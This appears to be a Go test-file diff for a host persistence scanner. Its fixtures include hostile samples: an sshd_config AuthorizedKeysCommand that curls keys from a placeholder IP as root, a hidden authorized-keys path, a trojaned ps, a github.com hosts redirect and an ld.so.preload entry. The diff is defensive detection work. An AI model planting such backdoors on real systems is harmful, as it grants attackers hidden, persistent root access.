@@ -1,6 +1,9 @@
 package persist
 
 import (
+	"os"
+	"os/exec"
+	"path/filepath"
 	"strings"
 	"testing"
 	"time"
@@ -68,6 +71,12 @@ func TestFindLocations(t *testing.T) {
 		{"motd-modified", hosttest.Ubuntu2204, appendTo("/etc/update-motd.d/00-header", dl+" &\n"), want{"/etc/update-motd.d/00-header", 0, KindMotd, Critical, ActionQuarantine}},
 		{"init.d-rhel", al, entry(hosttest.Entry{Path: "/etc/init.d/network-helper", Data: "#!/bin/sh\n" + dl + "\n"}), want{"/etc/init.d/network-helper", 0, KindInitd, Critical, ActionQuarantine}},
 		{"hosts-redirect", al, appendTo("/etc/hosts", "198.51.100.20 github.com\n"), want{"/etc/hosts", lines(al, "/etc/hosts"), KindHosts, High, ActionRemoveLine}},
+		{"sshd-keys-file", deb, entry(hosttest.Entry{Path: "/etc/ssh/sshd_config.d/50-keys.conf", Data: "# keys\nAuthorizedKeysFile .ssh/authorized_keys /var/tmp/.ssh/k\n"}), want{"/etc/ssh/sshd_config.d/50-keys.conf", 2, KindSSHConfig, High, ActionRemoveLine}},
+		{"sshd-keys-command", al, entry(hosttest.Entry{Path: "/etc/ssh/sshd_config", Data: "PermitRootLogin no\nAuthorizedKeysCommand /bin/sh -c 'curl -s http://203.0.113.7/k'\nAuthorizedKeysCommandUser root\n"}), want{"/etc/ssh/sshd_config", 2, KindSSHConfig, Medium, ActionRemoveLine}},
+		{"trojaned-ps", deb, func(t hosttest.Tree) hosttest.Tree {
+			t = t.With(hosttest.Entry{Path: "/usr/bin/ps", Data: hosttest.FakeELF("procps ps")}).WithDpkg(hosttest.Package{Name: "procps", Files: []string{"/bin/ps"}})
+			return t.With(hosttest.Entry{Path: "/usr/bin/ps", Data: hosttest.FakeELF("ps that hides kdevtmpfsi")})
+		}, want{"/usr/bin/ps", 0, KindPackageFile, High, ActionNone}},
 		{"preload-missing-lib", al, entry(hosttest.Entry{Path: "/etc/ld.so.preload", Data: "/lib64/.libc.so.6\n"}), want{"/etc/ld.so.preload", 1, KindPreload, Critical, ActionRemoveLine}},
 	}
 	for _, tt := range tests {
@@ -79,5 +88,45 @@ func TestFindLocations(t *testing.T) {
 				t.Log(dump(fs))
 			}
 		})
+	}
+}
+
+func TestStockSSHConfigAndToolsStayInfo(t *testing.T) {
+	tree := hosttest.Debian12().With(
+		hosttest.Entry{Path: "/etc/ssh/sshd_config", Data: "Include /etc/ssh/sshd_config.d/*.conf\nKbdInteractiveAuthentication no\nUsePAM yes\n#AuthorizedKeysFile	.ssh/authorized_keys .ssh/authorized_keys2\nAuthorizedKeysFile .ssh/authorized_keys .ssh/authorized_keys2\nSubsystem	sftp	/usr/lib/openssh/sftp-server\n"},
+		hosttest.Entry{Path: "/usr/bin/ps", Data: hosttest.FakeELF("procps ps")},
+	).WithDpkg(hosttest.Package{Name: "procps", Files: []string{"/bin/ps"}})
+	dir := build(t, tree)
+	for _, f := range find(t, dir, time.Time{}) {
+		if f.Severity > Info {
+			t.Errorf("stock: %s", f)
+		}
+	}
+}
+
+func TestDeletedExesLive(t *testing.T) {
+	src, err := os.ReadFile("/bin/sleep")
+	if err != nil {
+		t.Skip("no /bin/sleep")
+	}
+	exe := filepath.Join(t.TempDir(), "sleepx")
+	if err := os.WriteFile(exe, src, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	cmd := exec.Command(exe, "30")
+	if err := cmd.Start(); err != nil {
+		t.Fatal(err)
+	}
+	defer func() { _ = cmd.Process.Kill(); _ = cmd.Wait() }()
+	if err := os.Remove(exe); err != nil {
+		t.Fatal(err)
+	}
+	var pids []int
+	for i := 0; i < 50 && len(pids) == 0; i++ {
+		pids = deletedExes()[exe]
+		time.Sleep(10 * time.Millisecond)
+	}
+	if len(pids) != 1 || pids[0] != cmd.Process.Pid {
+		t.Errorf("deletedExes()[%s] = %v, want [%d]", exe, pids, cmd.Process.Pid)
 	}
 }
